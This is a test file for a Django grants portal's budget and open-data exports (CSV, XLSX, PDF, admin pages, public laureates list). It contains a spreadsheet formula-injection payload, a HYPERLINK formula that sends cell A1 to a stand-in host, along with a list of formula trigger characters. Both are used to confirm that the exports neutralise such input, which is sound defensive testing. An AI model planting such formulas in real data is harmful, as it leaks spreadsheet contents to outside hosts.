"""Budget reports and open data of a call: CSV (streamed, BOM, neutralised cells), XLSX, PDF, the
commands, the admin pages with the background workbook, and the public list of laureates.

Every expected figure is computed here from the rows, independently of grants.selectors.exports and grants.writers.
"""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import pypdf
import pytest
from django.conf import settings as django_settings
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.models import AuditEvent
from applications.models import Application, Call, Member
from fabriques.models import LegalCategory, Organisation
from grants.export_jobs import export_job_build, export_job_create, export_job_file_name, transition
from grants.models import Agreement, ExportJob, Grant, Tranche
from grants.open_data import OPEN_DATA_COLUMNS, open_data_rows
from grants.selectors.exports import labels, report_rows_grants, report_rows_tranches, tranche_columns
from grants.services import application_award
from grants.tasks.exports import budget_report_build_task
from grants.writers import csv_stream, neutralise, pdf_summary, xlsx_write
from notifications.models import Document
from tests.factories import (
    CallFactory,
    OrganisationFactory,
    applicant,
    close_response,
    in_review_application,
    programme_admin,
)
from tests.grants.scdl import schema_errors

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://exemple.invalid/?x="&A1;"cliquez")'
SHEETS = ["Synthèse", "Régions", "Années", "Subventions", "Tranches"]


# --- building awarded dossiers ------------------------------------------------------------------


def award(call: Call, *, name: str | None = None, kind: str = "ft", amount: str = "150000") -> Grant:
    application, reviewer = in_review_application(call=call)
    if name is not None:
        lead = application.members.get(is_lead=True)
        Organisation.objects.filter(pk=lead.organisation_id).update(name=name)
    if kind != "ft":
        Application.objects.filter(pk=application.pk).update(kind=kind)
        application.refresh_from_db()
    return application_award(application=application, amount=Decimal(amount), actor=reviewer)


def pay(grant: Grant, year_index: int) -> None:
    Tranche.objects.filter(grant=grant, year_index=year_index).update(
        status="paid",
        requested_at=timezone.now() - timedelta(days=20),
        paid_on=timezone.localdate(),
        payment_reference=f"PAY-{grant.pk}-{year_index}",
    )


def sign(grant: Grant, number: str, *, signed: bool = True) -> Agreement:
    """The grant's agreement, signed three days ago (or awaiting signature), whatever created it."""
    agreement, _created = Agreement.objects.update_or_create(
        grant=grant,
        defaults={
            "number": number,
            "status": "signed" if signed else "awaiting_signature",
            "signed_at": timezone.now() - timedelta(days=3) if signed else None,
        },
    )
    return agreement


@pytest.fixture
def call_with_grants() -> tuple[Call, list[Grant]]:
    """Three laureates: one named to inject a formula, one FNT (with its bonus), one of 100 000 €."""
    call = CallFactory()
    grants = [
        award(call, name=INJECTION),
        award(call, kind="fnt"),
        award(call, amount="100000"),
    ]
    pay(grants[0], 1)
    pay(grants[0], 2)
    pay(grants[1], 1)
    return Call.objects.get(pk=call.pk), grants


def expected_totals(call: Call) -> dict[str, Decimal]:
    grants = list(Grant.objects.filter(call=call, status="active"))
    paid = [t.amount for t in Tranche.objects.filter(grant__call=call) if t.status == "paid"]
    return {
        "committed": sum((g.amount + g.bonus for g in grants), Decimal("0")),
        "paid": sum(paid, Decimal("0")),
        "laureates": Decimal(len(grants)),
    }


def read_csv(text: str, delimiter: str = ";") -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def flat(text: str) -> str:
    return " ".join(text.split())


def pdf_text(pdf: bytes) -> str:
    assert pdf.startswith(b"%PDF-")
    return flat("\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages))


def summary_of(workbook: openpyxl.Workbook) -> dict[str, object]:
    return {row[0]: row[1] for row in workbook["Synthèse"].iter_rows(min_row=2, values_only=True)}


# --- CSV ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+33 6", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_trigger_is_neutralised(text):
    assert neutralise(text) == "'" + text


def test_ordinary_text_is_left_alone():
    assert neutralise("Association du tiers-lieu") == "Association du tiers-lieu"
    assert neutralise("a=b") == "a=b"


def test_the_tranches_csv_has_a_bom_a_header_one_row_per_tranche_and_neutralised_cells(call_with_grants):
    call, grants = call_with_grants
    chunks = list(csv_stream(report_rows_tranches(call), labels(tranche_columns())))
    assert chunks[0].startswith("\ufeff")
    rows = read_csv("".join(chunks))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Référence du dossier", "Structure chef de file", "SIRET"]
    assert len(body) == 9
    injected = [row for row in body if row[1].startswith("'")]
    assert len(injected) == 3 and all(row[1] == "'" + INJECTION for row in injected)
    assert not any(cell.startswith(("=", "+", "@")) for row in body for cell in row)
    amount, state = header.index("Montant"), header.index("État de la tranche")
    assert sum(Decimal(row[amount]) for row in body) == sum(
        (t.amount for t in Tranche.objects.filter(grant__call=call)), Decimal("0")
    )
    paid = [row for row in body if row[state] == "Versée"]
    assert len(paid) == 3
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[header.index("Versée le")]) for row in paid)


def test_the_grants_csv_gives_committed_and_paid_amounts(call_with_grants):
    call, grants = call_with_grants
    rows = list(report_rows_grants(call))
    assert len(rows) == 3
    assert sum((row[10] for row in rows), Decimal("0")) == expected_totals(call)["committed"]
    assert sum((row[11] for row in rows), Decimal("0")) == expected_totals(call)["paid"]
    fnt = next(row for row in rows if row[2] == "FNT")
    assert fnt[9] == Decimal("100000") and fnt[10] == Decimal("250000")


def test_the_rows_give_what_the_models_say_local_dates_labels_and_the_payment_deadline(call_with_grants):
    """The rows are read as tuples: each cell checked against the model instances it stands for,
    with moments at 23:30 UTC, the next day in Paris."""
    call, grants = call_with_grants
    late_evening = datetime(2026, 1, 14, 23, 30, tzinfo=UTC)
    Tranche.objects.filter(grant=grants[2], year_index=1).update(
        status="requested", requested_at=late_evening
    )
    Grant.objects.filter(pk=grants[1].pk).update(awarded_at=late_evening)
    agreement = sign(grants[1], "CONV-2026-00042")
    Agreement.objects.filter(pk=agreement.pk).update(signed_at=late_evening)
    Grant.objects.filter(pk=grants[0].pk).update(status="cancelled")

    tranches = (
        Tranche.objects.filter(grant__call=call)
        .select_related("grant__application__departement__region")
        .order_by("grant__application__reference", "grant_id", "year_index")
    )
    expected = []
    for tranche in tranches:
        application = tranche.grant.application
        lead = application.members.get(is_lead=True).organisation
        expected.append(
            [
                application.reference,
                lead.name,
                lead.siret,
                application.departement.code,
                application.departement.region.name,
                {"ft": "FT", "fnt": "FNT"}[application.kind],
                tranche.year_index,
                tranche.amount,
                tranche.due_date,
                tranche.get_status_display(),
                timezone.localdate(tranche.requested_at) if tranche.requested_at else None,
                tranche.pay_by,
                tranche.paid_on,
                tranche.payment_reference,
                tranche.grant.get_status_display(),
            ]
        )
    assert list(report_rows_tranches(call)) == expected
    requested = next(row for row in expected if row[9] == "Demandée")
    assert requested[10].isoformat() == "2026-01-15" and requested[11].isoformat() == "2026-03-16"

    rows = {row[0]: row for row in report_rows_grants(call)}
    fnt = rows[grants[1].application.reference]
    assert fnt[13].isoformat() == fnt[17].isoformat() == "2026-01-15"
    assert fnt[14:17] == ["En cours", "CONV-2026-00042", "Signée"]
    cancelled = rows[grants[0].application.reference]
    assert cancelled[14] == "Annulée" and cancelled[12] == Decimal("0")


def test_the_csv_export_runs_the_same_number_of_queries_for_2_and_6_grants(client):
    admin = programme_admin()
    client.force_login(admin)

    def queries_for(count: int) -> int:
        call = CallFactory()
        for _ in range(count):
            award(call)
        url = reverse("grants:export-csv", args=[call.slug, "tranches"])
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url)
            content = b"".join(response.streaming_content)
        close_response(response)
        assert content.decode("utf-8").count("\r\n") == 1 + 3 * count
        return len(captured.captured_queries)

    assert queries_for(2) == queries_for(6)

    def generator_queries(count: int) -> int:
        call = CallFactory()
        for _ in range(count):
            award(call)
        with CaptureQueriesContext(connection) as captured:
            list(csv_stream(report_rows_tranches(call), ["x"]))
            list(report_rows_grants(call))
        return len(captured.captured_queries)

    assert generator_queries(2) == generator_queries(6) == 2


# --- XLSX and PDF -------------------------------------------------------------------------------


def test_the_workbook_has_its_sheets_and_totals_equal_to_the_sums_of_the_rows(call_with_grants):
    call, grants = call_with_grants
    buffer = io.BytesIO()
    progress: list[tuple[int, int]] = []
    xlsx_write(call, buffer, progress=lambda done, total: progress.append((done, total)))
    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    assert workbook.sheetnames == SHEETS
    expected = expected_totals(call)

    summary = summary_of(workbook)
    assert Decimal(str(summary["Engagé"])) == expected["committed"] == Decimal("500000")
    # One of the paid first tranches carries its FNT bonus (100 000 €).
    assert Decimal(str(summary["Versé"])) == expected["paid"] == Decimal("250000")
    assert Decimal(str(summary["Enveloppe"])) == call.envelope
    assert Decimal(str(summary["Restant sur l'enveloppe"])) == call.envelope - expected["committed"]
    assert summary["Lauréats"] == 3 and summary["Objectif de lauréats"] == call.target_count

    regions = list(workbook["Régions"].iter_rows(min_row=2, values_only=True))
    assert [row[1] for row in regions] == ["Occitanie"]
    assert Decimal(str(regions[0][3])) == expected["committed"]
    assert Decimal(str(regions[0][4])) == expected["paid"]

    years = list(workbook["Années"].iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in years] == [1, 2, 3]
    # The tranches schedule every euro committed: the operating grants and the FNT bonuses.
    assert sum(Decimal(str(row[2])) for row in years) == sum(g.amount + g.bonus for g in grants)
    assert sum(Decimal(str(row[4])) for row in years) == expected["paid"]

    grant_sheet = workbook["Subventions"]
    header = [cell.value for cell in grant_sheet[1]]
    body = list(grant_sheet.iter_rows(min_row=2))
    assert len(body) == 3
    committed = header.index("Montant engagé")
    assert sum(Decimal(str(row[committed].value)) for row in body) == expected["committed"]
    assert "€" in body[0][committed].number_format
    injected = next(row[3] for row in body if str(row[3].value).startswith("="))
    assert injected.value == INJECTION and injected.data_type == "s"  # text, never a formula

    tranche_sheet = workbook["Tranches"]
    assert tranche_sheet.max_row == 1 + 9
    assert progress[-1] == (12, 12)


def test_the_pdf_summary_gives_the_figures_of_the_envelope(call_with_grants):
    call, _grants = call_with_grants
    text = pdf_text(pdf_summary(call))
    assert "Synthèse budgétaire" in text
    assert call.title in text
    assert "500 000 €" in text  # committed
    assert "250 000 €" in text  # paid, an FNT bonus included
    assert "Occitanie" in text


# --- commands -----------------------------------------------------------------------------------


def test_budget_report_command_writes_the_three_formats_and_audits_them(call_with_grants, tmp_path: Path):
    call, _grants = call_with_grants
    out = io.StringIO()
    call_command(
        "budget_report", "--call", call.slug, "--format", "csv", "--output", tmp_path / "t.csv", stdout=out
    )
    rows = read_csv((tmp_path / "t.csv").read_text(encoding="utf-8"))
    assert len(rows) == 1 + 9
    assert sum(1 for row in rows if row[1] == "'" + INJECTION) == 3
    assert "écrit dans" in out.getvalue()

    call_command("budget_report", "--call", call.slug, "--format", "xlsx", "--output", tmp_path / "b.xlsx")
    workbook = openpyxl.load_workbook(tmp_path / "b.xlsx")
    assert workbook.sheetnames == SHEETS
    assert Decimal(str(summary_of(workbook)["Engagé"])) == expected_totals(call)["committed"]

    call_command("budget_report", "--call", call.slug, "--format", "PDF", "--output", tmp_path / "s.pdf")
    assert "500 000 €" in pdf_text((tmp_path / "s.pdf").read_bytes())

    events = AuditEvent.objects.filter(action="export.budget_report", target_id=str(call.pk))
    assert sorted(event.data["format"] for event in events) == ["csv", "pdf", "xlsx"]
    assert all(event.actor is None for event in events)


def test_an_unknown_call_or_format_is_refused_in_french(tmp_path: Path):
    call = CallFactory()
    with pytest.raises(CommandError, match="Aucun appel n'a l'identifiant « inconnu »"):
        call_command("budget_report", "--call", "inconnu", "--format", "csv", "--output", tmp_path / "x.csv")
    with pytest.raises(CommandError, match="Format inconnu : « ods »"):
        call_command("budget_report", "--call", call.slug, "--format", "ods", "--output", tmp_path / "x.ods")
    with pytest.raises(CommandError, match="Aucun appel n'a l'identifiant"):
        call_command("export_open_data", "--call", "inconnu", "--output", tmp_path / "x.csv")
    with pytest.raises(CommandError, match="n'existe pas"):
        call_command(
            "budget_report", "--call", call.slug, "--format", "csv", "--output", tmp_path / "no" / "x.csv"
        )
    assert not (tmp_path / "x.csv").exists()
    assert not AuditEvent.objects.filter(action__startswith="export.").exists()


# --- open data ----------------------------------------------------------------------------------


@pytest.fixture
def call_with_agreements() -> tuple[Call, dict[str, Grant]]:
    """A consortium (lead 60 %, partner 40 %, a natural person at 0 %), a single structure, and a
    grant whose agreement is not signed yet."""
    call = CallFactory(grantor_siret="13002603200016")
    consortium, single, unsigned = award(call), award(call, kind="fnt"), award(call)
    Member.objects.filter(application=consortium.application, is_lead=True).update(share_percent=60)
    partner = OrganisationFactory(name="Coopérative des Tiers-Lieux")
    Member.objects.create(
        application=consortium.application, organisation=partner, role="Partenaire", share_percent=40
    )
    category, _ = LegalCategory.objects.get_or_create(
        code="1000", defaults={"label": "Entrepreneur individuel", "family": "company"}
    )
    person = OrganisationFactory(name="Dominique Personne-Physique", legal_category=category)
    Member.objects.create(
        application=consortium.application, organisation=person, role="Formatrice", share_percent=0
    )
    sign(consortium, "CONV-2026-001")
    sign(single, "CONV-2026-002")
    sign(unsigned, "CONV-2026-003", signed=False)
    return call, {"consortium": consortium, "single": single, "unsigned": unsigned}


def test_open_data_has_one_row_per_beneficiary_structure_in_the_schema(call_with_agreements, tmp_path: Path):
    call, grants = call_with_agreements
    association = grants["single"].application.members.get(is_lead=True).organisation
    Organisation.objects.filter(pk=association.pk).update(rna="W321000123")
    call_command("export_open_data", "--call", call.slug, "--output", tmp_path / "od.csv")
    assert schema_errors(tmp_path / "od.csv") == []
    text = (tmp_path / "od.csv").read_text(encoding="utf-8")
    rows = read_csv(text, delimiter=",")
    assert len(rows[0]) == 16 and {"rnaBeneficiaire", "dispositifAide"} <= set(rows[0])
    assert tuple(rows[0]) == OPEN_DATA_COLUMNS
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [(r["referenceDecision"], r["pourcentageSubvention"]) for r in records] == [
        ("CONV-2026-001", "0.60"),
        ("CONV-2026-001", "0.40"),
        ("CONV-2026-002", "1.00"),
    ]
    consortium = grants["consortium"]
    lead = consortium.application.members.get(is_lead=True).organisation
    assert records[0]["nomBeneficiaire"] == lead.name and records[0]["idBeneficiaire"] == lead.siret
    assert records[1]["nomBeneficiaire"] == "Coopérative des Tiers-Lieux"
    assert records[2]["rnaBeneficiaire"] == "W321000123" and records[0]["rnaBeneficiaire"] == ""
    assert {r["montant"] for r in records[:2]} == {"150000.00"}  # the total, before the split
    assert records[2]["montant"] == "250000.00"  # FNT: the bonus is part of the grant
    for record in records:
        assert record["nomAttribuant"] == call.grantor_name
        assert record["idAttribuant"] == "13002603200016"
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", record["dateConvention"])
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}/\d{4}-\d{2}-\d{2}", record["datesPeriodeVersement"])
        assert record["nature"] == "aide en numéraire"
        assert record["conditionsVersement"] == "échelonné"
        assert record["notificationUE"] == "non" and record["idRAE"] == ""
        assert call.title in record["objet"]
    assert "Personne-Physique" not in text
    assert "@" not in text
    for grant in grants.values():
        creator = grant.application.created_by
        assert creator.last_name not in text and creator.email not in text
    assert AuditEvent.objects.filter(action="export.open_data", target_id=str(call.pk)).count() == 1


def test_a_partner_with_half_a_percent_is_published_at_the_schemas_least_share(
    call_with_agreements, tmp_path: Path
):
    call, grants = call_with_agreements
    application = grants["consortium"].application
    Member.objects.filter(application=application, is_lead=True).update(share_percent=Decimal("59.5"))
    Member.objects.filter(application=application, organisation__name="Coopérative des Tiers-Lieux").update(
        share_percent=40
    )
    small = OrganisationFactory(name="Petite Association")
    Member.objects.create(
        application=application, organisation=small, role="Appui", share_percent=Decimal("0.5")
    )
    call_command("export_open_data", "--call", call.slug, "--output", tmp_path / "od.csv")
    assert schema_errors(tmp_path / "od.csv") == []
    rows = read_csv((tmp_path / "od.csv").read_text(encoding="utf-8"), delimiter=",")
    shares = {row[4]: Decimal(row[14]) for row in rows[1:] if row[3] == "CONV-2026-001"}
    lead = application.members.get(is_lead=True).organisation.name
    # 0.5 % is raised to 0.01, taken from the lead's 0.595: still one in all.
    assert shares == {
        lead: Decimal("0.59"),
        "Coopérative des Tiers-Lieux": Decimal("0.40"),
        "Petite Association": Decimal("0.01"),
    }
    assert sum(shares.values()) == 1


def test_a_long_title_is_cut_on_a_word_with_an_ellipsis_within_256_characters(
    call_with_agreements, tmp_path: Path
):
    call, grants = call_with_agreements
    title = " ".join(["Tiers-lieu nourricier et numérique des coteaux de Gascogne"] * 3)  # 176
    Application.objects.filter(pk=grants["single"].application_id).update(title=title)
    Call.objects.filter(pk=call.pk).update(
        title="Appel à manifestation d'intérêt Fabriques de territoires, deuxième vague nationale 2026"
    )
    call.refresh_from_db()
    call_command("export_open_data", "--call", call.slug, "--output", tmp_path / "od.csv")
    assert schema_errors(tmp_path / "od.csv") == []
    rows = read_csv((tmp_path / "od.csv").read_text(encoding="utf-8"), delimiter=",")
    objet = next(row[7] for row in rows[1:] if row[3] == "CONV-2026-002")
    assert len(objet) <= 256
    assert objet.endswith(f"… » — {call.title}")
    kept = objet.split("« ", 1)[1].split("… »", 1)[0]
    assert title.startswith(kept) and title[len(kept)] == " "  # a whole word, no half word


def test_open_data_without_the_grantors_siret_is_refused_naming_the_setting(
    client, call_with_agreements, tmp_path: Path
):
    call, _grants = call_with_agreements
    Call.objects.filter(pk=call.pk).update(grantor_siret="")
    with pytest.raises(CommandError, match="« SIRET de l'autorité qui attribue » de l'appel"):
        call_command("export_open_data", "--call", call.slug, "--output", tmp_path / "od.csv")
    assert not (tmp_path / "od.csv").exists()

    client.force_login(programme_admin())
    response = client.get(reverse("grants:export-open-data", args=[call.slug]), follow=True)
    assert response.redirect_chain == [(reverse("grants:export-index"), 302)]
    html = response.content.decode()
    assert "idAttribuant" in html and "SIRET de l&#x27;autorité qui attribue" in html
    assert not AuditEvent.objects.filter(action="export.open_data").exists()

    Call.objects.filter(pk=call.pk).update(grantor_siret="13002603200017")  # a wrong check digit
    with pytest.raises(CommandError, match="n'est pas un SIRET valide"):
        call_command("export_open_data", "--call", call.slug, "--output", tmp_path / "od.csv")
    assert not (tmp_path / "od.csv").exists()


def test_open_data_with_an_empty_required_cell_is_refused_naming_the_agreement(
    call_with_agreements, tmp_path: Path
):
    call, grants = call_with_agreements
    lead = grants["single"].application.members.get(is_lead=True).organisation
    Organisation.objects.filter(pk=lead.pk).update(name=" ")  # written around the form's checks
    assert any(row[4] == " " for row in open_data_rows(call))  # what the refusal prevents
    with pytest.raises(CommandError, match="nomBeneficiaire.*CONV-2026-002"):
        call_command("export_open_data", "--call", call.slug, "--output", tmp_path / "od.csv")
    assert not (tmp_path / "od.csv").exists()


def test_open_data_leaves_out_grants_of_23_000_euros_or_less():
    call = CallFactory(min_award=Decimal("20000"), max_per_year=Decimal("50000"))
    small = award(call, amount="23000")
    sign(small, "CONV-PETITE")
    big = award(call, amount="23000.01")
    sign(big, "CONV-GRANDE")
    assert [row[3] for row in open_data_rows(call)] == ["CONV-GRANDE"]


# --- admin pages --------------------------------------------------------------------------------


def admin_urls(call: Call) -> list[str]:
    return [
        reverse("grants:export-index"),
        reverse("grants:export-csv", args=[call.slug, "tranches"]),
        reverse("grants:export-csv", args=[call.slug, "subventions"]),
        reverse("grants:export-open-data", args=[call.slug]),
    ]


def test_the_export_pages_are_for_programme_admins(client, call_with_grants, tmp_path: Path):
    call, _grants = call_with_grants
    client.force_login(applicant())
    for url in admin_urls(call):
        assert client.get(url).status_code == 403
    assert client.post(reverse("grants:export-xlsx-start", args=[call.slug])).status_code == 403
    assert client.post(reverse("grants:export-pdf-start", args=[call.slug])).status_code == 403
    client.logout()
    assert client.get(admin_urls(call)[1]).status_code == 302  # to the login page
    assert not AuditEvent.objects.filter(action__startswith="export.").exists()

    client.force_login(programme_admin())
    page = client.get(reverse("grants:export-index"))
    assert page.status_code == 200
    assert call.title in page.content.decode()
    for url in admin_urls(call)[1:]:
        response = client.get(url)
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith("attachment; filename=")
        assert "no-store" in response["Cache-Control"]
        content = b"".join(response.streaming_content).decode("utf-8")
        close_response(response)
        assert content.startswith("\ufeff")
        if url == reverse("grants:export-open-data", args=[call.slug]):
            (tmp_path / "od.csv").write_text(content, encoding="utf-8")
            assert schema_errors(tmp_path / "od.csv") == []
    assert AuditEvent.objects.filter(action="export.budget_report").count() == 2
    assert AuditEvent.objects.filter(action="export.open_data").count() == 1


def test_the_tranches_csv_view_streams_neutralised_cells(client, call_with_grants):
    call, _grants = call_with_grants
    client.force_login(programme_admin())
    response = client.get(reverse("grants:export-csv", args=[call.slug, "tranches"]))
    assert response.streaming
    rows = read_csv(b"".join(response.streaming_content).decode("utf-8"))
    close_response(response)
    assert len(rows) == 10 and rows[1][0].startswith(call.reference_prefix)
    assert sum(1 for row in rows if row[1] == "'" + INJECTION) == 3
    assert client.get(reverse("grants:export-csv", args=[call.slug, "autre"])).status_code == 404


def test_the_background_workbook_is_built_polled_and_downloaded(
    client, call_with_grants, django_capture_on_commit_callbacks, task_queues
):
    call, _grants = call_with_grants
    admin = programme_admin()
    client.force_login(admin)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("grants:export-xlsx-start", args=[call.slug]))
    task_queues.drain()
    assert response.status_code == 302
    job_id = response.url.rstrip("/").rsplit("/", 1)[-1]
    assert response.url == reverse("grants:export-job", kwargs={"job_id": job_id})

    page = client.get(response.url)
    assert page.status_code == 200
    status = client.get(reverse("grants:export-job-status", kwargs={"job_id": job_id}))
    html = status.content.decode()
    download = reverse("grants:export-job-download", kwargs={"job_id": job_id})
    assert download in html and "hx-trigger" not in html  # ready: the polling stops

    file = client.get(download)
    assert file.status_code == 200
    assert file["Content-Disposition"].startswith("attachment;")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(file.streaming_content)))
    close_response(file)
    assert workbook.sheetnames == SHEETS
    assert Decimal(str(summary_of(workbook)["Engagé"])) == expected_totals(call)["committed"]
    assert AuditEvent.objects.filter(action="export.budget_report", data__format="xlsx").count() == 1

    client.force_login(applicant())
    assert client.get(download).status_code == 403
    client.force_login(programme_admin())  # another admin: not their job
    assert client.get(download).status_code == 404


def test_a_running_job_shows_a_progress_bar_polled_every_two_seconds(client):
    call = CallFactory()
    admin = programme_admin()
    client.force_login(admin)
    job_id = export_job_create(call=call, actor=admin).pk  # queued, not built
    page = client.get(reverse("grants:export-job", kwargs={"job_id": job_id})).content.decode()
    status_url = reverse("grants:export-job-status", kwargs={"job_id": job_id})
    assert f'hx-get="{status_url}"' in page and 'hx-trigger="every 2s"' in page
    assert "<progress" in page
    # Without JavaScript, a link reloads the page (the status template shared with applications').
    page_url = reverse("grants:export-job", kwargs={"job_id": job_id})
    assert f'href="{page_url}">Actualiser</a>' in page
    assert client.get(reverse("grants:export-job-download", kwargs={"job_id": job_id})).status_code == 404


def test_a_failed_build_says_so_and_stops_polling(client, monkeypatch, task_queues):
    call = CallFactory()
    admin = programme_admin()
    client.force_login(admin)
    job_id = export_job_create(call=call, actor=admin).pk

    def broken(*args, **kwargs):
        raise RuntimeError("disque plein")

    monkeypatch.setattr("grants.writers.xlsx_write", broken)
    budget_report_build_task.delay(str(job_id))
    (run,) = task_queues.drain(raise_failures=False)
    assert (run.outcome, repr(run.error)) == ("failed", "RuntimeError('disque plein')")
    html = client.get(reverse("grants:export-job-status", kwargs={"job_id": job_id})).content.decode()
    assert "n'a pas pu être produit" in html and "hx-trigger" not in html
    assert not list(Path(django_settings.MEDIA_ROOT, "exports").glob("*"))
    job = ExportJob.objects.get(pk=job_id)
    assert (job.status, job.error) == ("failed", "RuntimeError('disque plein')")
    assert [(c.from_status, c.to_status) for c in job.changes.all()] == [
        ("queued", "running"),
        ("running", "failed"),
    ]
    budget_report_build_task.delay(str(job_id))  # redelivered: a failed job is left alone
    assert [run.outcome for run in task_queues.drain()] == ["done"]
    assert ExportJob.objects.get(pk=job_id).changes.count() == 2


def test_the_pdf_summary_is_a_document_built_after_commit_and_downloaded(
    client, call_with_grants, django_capture_on_commit_callbacks, task_queues
):
    call, _grants = call_with_grants
    client.force_login(programme_admin())
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("grants:export-pdf-start", args=[call.slug]))
    task_queues.drain()
    document = Document.objects.get(kind="budget-summary")
    assert response.url == reverse("grants:export-pdf", kwargs={"document_id": document.pk})
    assert client.get(response.url).status_code == 200
    status = client.get(reverse("grants:export-pdf-status", kwargs={"document_id": document.pk}))
    assert "hx-trigger" not in status.content.decode()
    file = client.get(reverse("grants:export-pdf-download", kwargs={"document_id": document.pk}))
    assert file["Content-Type"] == "application/pdf"
    text = pdf_text(b"".join(file.streaming_content))
    close_response(file)
    assert "500 000 €" in text
    assert AuditEvent.objects.filter(action="export.budget_report", data__format="pdf").count() == 1


# --- the public page ----------------------------------------------------------------------------


def test_the_laureates_page_is_public_and_lists_legal_persons_only(client, call_with_grants):
    call, grants = call_with_grants
    category, _ = LegalCategory.objects.get_or_create(
        code="1000", defaults={"label": "Entrepreneur individuel", "family": "company"}
    )
    hidden = grants[2].application.members.get(is_lead=True).organisation
    Organisation.objects.filter(pk=hidden.pk).update(legal_category=category)
    response = client.get(reverse("grants:export-laureates", args=[call.slug]))
    assert response.status_code == 200
    html = response.content.decode()
    fnt_lead = grants[1].application.members.get(is_lead=True).organisation
    assert fnt_lead.name in html and "FNT" in html and "250\u00a0000\u00a0€" in html
    assert "32 – Gers" in html
    assert hidden.name not in html
    assert "2 structures lauréates" in html

    draft = CallFactory(status="draft")
    assert client.get(reverse("grants:export-laureates", args=[draft.slug])).status_code == 404


def test_the_laureates_page_of_a_call_without_grants_says_so(client):
    call = CallFactory()
    response = client.get(reverse("grants:export-laureates", args=[call.slug]))
    assert response.status_code == 200
    assert "Aucun lauréat pour l'instant." in response.content.decode()


def kill_before_done(real):  # type: ignore[no-untyped-def]
    def transition(*, job, to_status, **kwargs):  # type: ignore[no-untyped-def]
        if to_status == "done":
            raise SystemExit("worker killed")
        return real(job=job, to_status=to_status, **kwargs)

    return transition


def test_workbooks_go_through_the_media_storage_and_a_day_old_one_is_purged(
    client, call_with_grants, monkeypatch
):
    import os

    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    call, _grants = call_with_grants
    admin = programme_admin()
    old = export_job_file_name(export_job_create(call=call, actor=admin).pk)
    default_storage.save(old, ContentFile(b"ancien classeur"))
    two_days_ago = (timezone.now() - timedelta(days=2)).timestamp()
    os.utime(default_storage.path(old), (two_days_ago, two_days_ago))

    job_id = export_job_create(call=call, actor=admin).pk
    # Killed after the save, before the job was marked done: the redelivered task builds again,
    # under the same name, no "_abc123" copy.
    with monkeypatch.context() as patched, pytest.raises(SystemExit):
        patched.setattr("grants.export_jobs.transition", kill_before_done(transition))
        export_job_build(job_id=job_id)
    assert ExportJob.objects.get(pk=job_id).status == "running"
    export_job_build(job_id=job_id)
    assert ExportJob.objects.get(pk=job_id).status == "done"

    _folders, names = default_storage.listdir("exports")
    assert names == [f"{job_id}.xlsx"]
    client.force_login(admin)
    response = client.get(reverse("grants:export-job-download", kwargs={"job_id": job_id}))
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    assert workbook.sheetnames


def test_the_regions_are_in_french_order_in_the_workbook_and_the_pdf(call_with_grants):
    call, grants = call_with_grants
    # Paris (Île-de-France), Marseille (Provence-Alpes-Côte d'Azur), Lille (Hauts-de-France),
    # and a fourth laureate without a territory, listed last.
    for grant, departement in zip(grants, ("75", "13", "59"), strict=True):
        Application.objects.filter(pk=grant.application_id).update(departement_id=departement)
    fourth = award(call)
    Application.objects.filter(pk=fourth.application_id).update(departement_id=None)
    expected = ["Hauts-de-France", "Île-de-France", "Provence-Alpes-Côte d'Azur", "Non renseignée"]

    buffer = io.BytesIO()
    xlsx_write(call, buffer)
    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    names = [row[1] for row in workbook["Régions"].iter_rows(min_row=2, values_only=True)]
    assert names == expected

    text = pdf_text(pdf_summary(call))
    positions = [text.index(name) for name in expected]
    assert positions == sorted(positions)


def test_a_grant_is_named_with_its_amount_the_french_way(call_with_grants):
    _call, grants = call_with_grants
    grant = grants[2]
    assert str(grant) == f"{grant.application.reference} – 100\u00a0000\u00a0€"


# The loop the laureates' template drew its rows with before they were written in Python.
LAUREATE_ROWS_TEMPLATE = """{% load portal %}{% for row in rows %}
          <tr>
            <th scope="row">{{ row.name }}</th>
            <td>{{ row.departement }}</td>
            <td>{{ row.amount|money }}</td>
            <td><abbr title="{{ row.kind_label }}">{{ row.kind }}</abbr></td>
          </tr>
        {% endfor %}"""


def test_the_laureates_rows_written_in_python_are_the_template_s_bytes(client, call_with_grants):
    from django.template import engines

    from grants.selectors.exports import LaureateRow, laureate_rows
    from grants.views.exports import laureate_rows_html

    call, _grants = call_with_grants
    rows = [
        *laureate_rows(call),
        LaureateRow(
            'Tiers-lieu « <b>A&B</b> » "quoted"', "2A – Corse-du-Sud", Decimal("74999.99"), "FT", "Fab"
        ),
        LaureateRow("Sans département", "", Decimal("0"), "FNT", 'Fabrique "numérique" <i>'),
    ]
    expected = engines["django"].from_string(LAUREATE_ROWS_TEMPLATE).render({"rows": rows})
    assert str(laureate_rows_html(rows)) == expected
    assert expected.count("<tr>") == len(rows) == 5
    assert "&lt;b&gt;A&amp;B&lt;/b&gt;" in expected and "74\u00a0999,99\u00a0€" in expected
    # The page carries the call's rows in its table, as before.
    response = client.get(reverse("grants:export-laureates", args=[call.slug]))
    assert str(laureate_rows_html(rows[:3])) in response.content.decode()
